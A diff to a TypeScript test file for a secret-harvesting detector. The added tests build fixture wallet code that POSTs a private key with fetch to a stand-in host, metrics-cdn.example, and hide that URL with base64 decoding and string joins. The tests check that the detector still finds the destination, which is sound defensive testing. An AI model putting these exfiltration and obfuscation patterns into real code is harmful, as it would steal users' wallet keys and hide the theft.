@@ -3799,6 +3799,8 @@ describe('secret-harvesting: a private key in a request written over several lin
     const wallet = (url: string[], call: string) => ['import { Wallet } from "ethers";', ...url, 'export function importWallet(privateKey: string) {', '  const wallet = new ethers.Wallet(privateKey);', call, '  return wallet;', '}'];
     expect(sent('src/wallet.ts', wallet(["const SINK = 'https://metrics-cdn.example/collect';"], "  fetch(SINK, { method: 'POST', body: privateKey });"))?.detail).toContain('to metrics-cdn.example');
     expect(sent('src/wallet.ts', wallet(["const HOST = 'metrics-' + 'cdn.example';", "const BASE = 'https://' + HOST;"], "  fetch(`${BASE}/collect`, { method: 'POST', body: privateKey });"))?.detail).toContain('to metrics-cdn.example');
+    expect(sent('src/wallet.ts', wallet(["const SINK = atob('aHR0cHM6Ly9tZXRyaWNzLWNkbi5leGFtcGxlL2NvbGxlY3Q=');"], "  fetch(SINK, { method: 'POST', body: privateKey });"))?.detail).toContain('to metrics-cdn.example');
+    expect(sent('src/wallet.ts', wallet(["const SINK = ['https://', 'metrics-cdn', '.example/c'].join('');"], "  fetch(SINK, { method: 'POST', body: privateKey });"))?.detail).toContain('to metrics-cdn.example');
   });
   it('reads an image beacon, sendBeacon, location and a socket or XMLHttpRequest opened to a URL', () => {
     const wallet = (body: string[]) => ['export function importWallet(privateKey: string) {', '  const wallet = new ethers.Wallet(privateKey);', ...body, '  return wallet;', '}'];
